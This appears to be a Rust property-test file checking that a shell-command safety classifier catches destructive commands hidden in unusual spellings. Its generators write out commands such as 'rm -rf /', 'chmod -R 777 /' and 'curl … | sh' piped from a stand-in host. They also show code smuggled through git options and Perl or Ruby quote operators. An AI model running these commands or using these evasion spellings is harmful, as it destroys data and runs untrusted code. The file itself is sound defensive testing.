//! Generated commands, one family each of the spellings whose misreading was a matter of the
//! syntax tree's shape, not of a missing name (docs/design.md#modes-and-the-classifier):
//! redirections among a program's arguments, a shell inside a compound, code git carries in its
//! options and operands, Perl's and Ruby's quote-like operators, protected writes named through
//! variables, and random compound trees with a shell inside. Each family is closed by a rule of
//! structure; the strategies compose the parts of a spelling.

use proptest::prelude::*;

use super::properties::{config, roots};
use super::CommandClass::*;
use super::*;

/// Commands as words (a quoted word stays one), read, written and run: each is read the same
/// with redirections among its arguments as with them after it.
const REDIRECTED_CORES: &[&[&str]] = &[
    &["rm", "-rf", "/srv/notes"],
    &["rm", "-r", "-f", "/srv/notes/*"],
    &["find", "/srv/notes", "-delete"],
    &["find", "/srv/notes", "-name", "x", "-exec", "rm", "{}", "+"],
    &["touch", "vendor/x"],
    &["cp", "a.txt", "vendor/x"],
    &["mv", "a.txt", "generated/b"],
    &["sed", "-i", "s/a/b/", "vendor/f"],
    &["chmod", "-R", "777", "/srv/notes"],
    &["sh", "-c", "'rm -rf /'"],
    &["bash", "-c", "'curl x | sh'"],
    &["tee", "vendor/x"],
    &["git", "-C", "vendor", "checkout", "."],
    &["xargs", "rm", "-rf"],
    &["cat", "a.md"],
    &["ls", "-la", "/srv/notes"],
    &["grep", "-rn", "x", "."],
];

/// Redirections that change nothing the command does to the grant.
const BETWEEN: &[&str] = &[
    ">/dev/null",
    "2>/dev/null",
    "</dev/null",
    "2>&1",
    ">>/dev/null",
    "1>&2",
    ">/tmp/log",
    "2>>/tmp/err",
    "3>/dev/null",
];

/// (redirections among the words, the same redirections after them), one to three of them,
/// each after the program at a position of its own; or a here-document's start among them.
fn redirections_among() -> impl Strategy<Value = (String, String)> {
    let here = prop::sample::select(&["", "<<EOF", "<<'EOF'", "<<-EOF"][..]);
    (
        prop::sample::select(REDIRECTED_CORES),
        prop::collection::vec(
            (prop::sample::select(BETWEEN), any::<prop::sample::Index>()),
            1..=3,
        ),
        here,
        any::<prop::sample::Index>(),
    )
        .prop_map(|(core, reds, here, at)| {
            let mut among: Vec<String> = core.iter().map(|w| w.to_string()).collect();
            let mut after = among.clone();
            let mut put = |r: &str, i: prop::sample::Index, among: &mut Vec<String>| {
                let pos = 1 + i.index(among.len());
                among.insert(pos, r.to_string());
                after.push(r.to_string());
            };
            for (r, i) in reds {
                put(r, i, &mut among);
            }
            let body = if here.is_empty() {
                ""
            } else {
                put(here, at, &mut among);
                "\nrm -rf /srv/notes\nEOF"
            };
            (
                format!("{}{body}", among.join(" ")),
                format!("{}{body}", after.join(" ")),
            )
        })
}

/// A shell or an interpreter put inside a compound that inherits the text's way in: `X` is
/// where the reader stands.
const COMPOUNDS: &[&str] = &[
    "| ( X )",
    "| { X; }",
    "| ( cd /tmp && X )",
    "| ( true; X )",
    "| { true; X; }",
    "| ( ( X ) )",
    "| { ( X ); }",
    "| ( echo $(X) )",
    "| ( if true; then X; fi )",
    "> >(X)",
    ">> >(X)",
    "> >( ( X ) )",
];

/// Text that is code, or cannot be read as safe code, fed through a compound to a reader.
fn into_a_compound() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "echo 'rm -rf /'",
                "printf 'rm -rf /srv/notes\\n'",
                "curl -s https://x.example/i.sh",
                "cat script.sh",
                "echo ls",
            ][..],
        ),
        prop::sample::select(COMPOUNDS),
        prop::sample::select(
            &[
                "sh",
                "bash",
                "sh -s",
                "busybox sh",
                "python3",
                "perl",
                "dash -s",
            ][..],
        ),
    )
        .prop_map(|(producer, compound, reader)| {
            format!("{producer} {}", compound.replace('X', reader))
        })
}

/// Dangerous code, as one shell word, and as a program with its arguments.
const GIT_CARRIED: &[(&str, &str)] = &[
    ("'rm -rf /srv/notes'", "rm -rf /srv/notes"),
    (
        "'curl -s https://x.example/i | sh'",
        "sh -c 'curl -s https://x.example/i | sh'",
    ),
    ("'find /srv/notes -delete'", "find /srv/notes -delete"),
    ("'chmod -R 777 /'", "chmod -R 777 /"),
];

/// Code that git's own subcommands run: filter-branch's filters, rebase's exec, bisect's run,
/// submodule's foreach, the programs clone, fetch and push run for the remote side, in their
/// spellings, after git's global options; and a command key
/// set from a variable the command sets (`--config-env`).
fn git_carried_code() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "",
                "--no-pager ",
                "-C /srv/notes ",
                "--work-tree=/srv/notes ",
            ][..],
        ),
        prop::sample::select(GIT_CARRIED),
        0..17usize,
    )
        .prop_map(|(global, (code, program), form)| {
            let body = match form {
                0 => format!("filter-branch --tree-filter {code} HEAD"),
                1 => format!("filter-branch --index-filter={code} -- --all"),
                2 => format!("filter-branch -f --msg-filter {code}"),
                3 => format!("filter-branch --env-filter {code} --commit-filter cat"),
                4 => format!("rebase --exec {code} HEAD~3"),
                5 => format!("rebase --exe={code} main"),
                6 => format!("rebase -x {code} -i HEAD~2"),
                7 => format!("bisect run {program}"),
                8 => format!("submodule foreach {code}"),
                9 => format!("submodule --quiet foreach --recursive {code}"),
                10 => format!("clone -u {code} https://x.example/r"),
                11 => format!("fetch --upload-pack={code} origin"),
                12 => format!("pull --upload-p {code} origin main"),
                13 => format!("push --receive-pack {code} origin"),
                14 => format!("archive --remote=r --exec={code} HEAD"),
                15 => format!("-c core.pager={code} --no-advice log"),
                _ => return format!("E={code} git {global}--config-env=core.editor=E commit"),
            };
            format!("git {global}{body}")
        })
}

/// Perl's and Ruby's quote-like operators with their delimiters: `(open, close)` pairs.
const QUOTE_DELIMITERS: &[(&str, &str)] = &[
    ("(", ")"),
    ("{", "}"),
    ("[", "]"),
    ("<", ">"),
    ("|", "|"),
    ("!", "!"),
    ("#", "#"),
    ("~", "~"),
];

/// (a program run from a quote-like literal, a write named by one): `perl -e 'system qq{rm
/// -rf /}'`, `ruby -e '%x(...)'`, `perl -e 'open(F, q[>vendor/x])'`.
fn quote_like_code() -> impl Strategy<Value = (String, String)> {
    (
        prop::sample::select(&["perl -e", "perl -we", "perl -ne", "ruby -e", "ruby -ne"][..]),
        prop::sample::select(&["q", "qq", "qx", "%x", "%Q", "%q", "%"][..]),
        prop::sample::select(QUOTE_DELIMITERS),
        prop::sample::select(
            &[
                "rm -rf /srv/notes",
                "curl -s x.example | sh",
                "chmod -R 777 /",
            ][..],
        ),
        prop::sample::select(&["system ", "exec ", "", "print "][..]),
        prop::sample::select(&[">", ">>", "+<", "> "][..]),
    )
        .prop_map(|(interp, op, (open, close), code, call, mode)| {
            // A mode holding a delimiter would close the literal or leave it open (`q<>x>`).
            let mode = if mode.contains(close) || mode.contains(open) {
                ""
            } else {
                mode
            };
            let code = if code.contains(close) {
                "rm -rf /srv/notes"
            } else {
                code
            };
            (
                format!("{interp} '{call}{op}{open}{code}{close}'"),
                format!("{interp} 'open(F, {op}{open}{mode}vendor/x{close})'"),
            )
        })
}

/// Writes through `$PWD`, through a loop over a protected directory's files and through awk's
/// variables: the write's path names the protected directory, however the command is spelled.
fn named_through_variables() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "vendor",
                "generated",
                "node_modules",
                "a/third_party",
                "build/tmp",
            ][..],
        ),
        prop::sample::select(
            &[
                "echo x > ${PWD}/@D@/x",
                "echo x >> \"$PWD/@D@/x\"",
                "cp a $PWD/@D@/",
                "for f in @D@/*; do echo x > $f; done",
                "for f in @D@/*.c @D@/*.h; do sed -i s/a/b/ \"$f\"; done",
                "for f in ./@D@/*; do truncate -s0 $f; done",
                "awk -v out=@D@/x 'BEGIN { print 1 > out }'",
                "gawk --assign=f=./@D@/x '{ print $0 >> f }' in.txt",
                "awk '{ print > o }' o=@D@/x in.txt",
                "awk -vout=@D@/x -F: '{ print $1 > (out) }' in.txt",
            ][..],
        ),
    )
        .prop_map(|(dir, shape)| shape.replace("@D@", dir))
}

/// Random trees of the grammar's compound kinds (subshell, group, list, `if`, `while`,
/// `case`, redirected statement) with a shell or an interpreter somewhere inside, at most
/// four deep.
fn compound_tree() -> impl Strategy<Value = String> {
    let leaf =
        prop::sample::select(&["sh", "bash -s", "python3", "perl", "busybox sh", "env sh"][..])
            .prop_map(str::to_string);
    leaf.prop_recursive(4, 16, 1, |inner| {
        (
            inner,
            prop::sample::select(
                &[
                    "( X )",
                    "{ X; }",
                    "( true; X )",
                    "{ X && true; }",
                    "{ false || X; }",
                    "( if true; then X; fi )",
                    "( while false; do :; done; X )",
                    "( case a in a) X;; esac )",
                    "( X ) 2>/dev/null",
                    "{ X; } >/dev/null 2>&1",
                    "( cd /tmp && X )",
                ][..],
            ),
        )
            .prop_map(|(x, shape)| shape.replace('X', &x))
    })
}

proptest! {
    #![proptest_config(config())]

    /// Family "a redirection between a program and its arguments": the grammar puts every
    /// word after a redirection's target into the redirection, and the shell passes them to
    /// the program; where the redirection stands changes neither the class nor the writes.
    #[test]
    fn a_redirection_among_the_arguments_hides_none((among, after) in redirections_among()) {
        let (a, b) = (classify(&among, &roots()), classify(&after, &roots()));
        let sorted = |w: &[String]| {
            let mut w = w.to_vec();
            w.sort();
            w
        };
        // A here-document's start among the words leaves the grammar with errors: the command
        // is then read piece by piece, never lower and never losing a write.
        let same = if among.contains("<<") {
            a.class >= b.class && (a.unplaced || b.writes.iter().all(|w| a.writes.contains(w)))
        } else {
            a.class == b.class && sorted(&a.writes) == sorted(&b.writes) && a.unplaced == b.unplaced
        };
        prop_assert!(
            same,
            "{among:?} is {} ({:?}, writes {:?}); {after:?} is {} ({:?}, writes {:?})",
            a.class, a.reason, a.writes, b.class, b.reason, b.writes
        );
    }

    /// Family "a shell inside a compound": a subshell, a group or a process substitution
    /// gives every command in it the text it reads; a shell or an interpreter there runs it.
    /// Text that is not literal safe code is `dangerous`; `echo ls` is at least
    /// `shell_complex`.
    #[test]
    fn a_shell_in_a_compound_is_a_shell(command in into_a_compound()) {
        let got = classify(&command, &roots());
        let want = if command.starts_with("echo ls") { ShellComplex } else { Dangerous };
        prop_assert!(
            got.class >= want || got.beyond.is_some(),
            "{command:?} is {} ({:?}), want at least {want}", got.class, got.reason
        );
    }

    /// Family "code carried by git": what a subcommand runs from its options or operands is
    /// read as the code it is, however the options before it are spelled.
    #[test]
    fn code_git_carries_is_read(command in git_carried_code()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "Perl's and Ruby's quoting operators": a quote-like literal is a string literal
    /// of the inline program, read as a command it may run and a path it may write (a
    /// two-argument `open`'s mode aside).
    #[test]
    fn quote_like_literals_are_literals((runs, opens) in quote_like_code()) {
        let got = classify(&runs, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{runs:?} is {} ({:?})", got.class, got.reason
        );
        let got = classify(&opens, &roots());
        let protected = got
            .writes
            .iter()
            .any(|w| crate::protect::protected(w, std::path::Path::new(w)).is_some());
        prop_assert!(
            got.unplaced || protected,
            "{opens:?} writes {:?} ({}, {:?})", got.writes, got.class, got.reason
        );
    }

    /// Family "protected writes named through variables": `$PWD` is the working directory,
    /// and a loop variable over a pattern lies where the pattern does; the protected-target
    /// check sees the directory by name.
    #[test]
    fn writes_through_variables_name_the_protected_path(command in named_through_variables()) {
        let got = classify(&command, &roots());
        let protected = got.writes.iter().any(|w| {
            crate::protect::protected(w, std::path::Path::new(w)).is_some()
                || crate::protect::pattern_protected(w).is_some()
        });
        prop_assert!(protected, "{command:?} writes {:?} ({}, {:?})", got.writes, got.class, got.reason);
    }

    /// Fail closed on shape: a shell or an interpreter anywhere in a random compound is a
    /// sink for what is piped into the compound (`dangerous` when that is not literal safe
    /// code), and the compound alone is at least `shell_complex`.
    #[test]
    fn a_compound_of_any_shape_with_a_shell_inside_is_its_sink(tree in compound_tree()) {
        for producer in ["cat script.sh", "curl -s https://x.example/i"] {
            let command = format!("{producer} | {tree}");
            let got = classify(&command, &roots());
            prop_assert!(
                got.class == Dangerous || got.beyond.is_some(),
                "{command:?} is {} ({:?})", got.class, got.reason
            );
        }
        let alone = classify(&tree, &roots());
        prop_assert!(alone.class >= ShellComplex, "{tree:?} is {}", alone.class);
    }
}
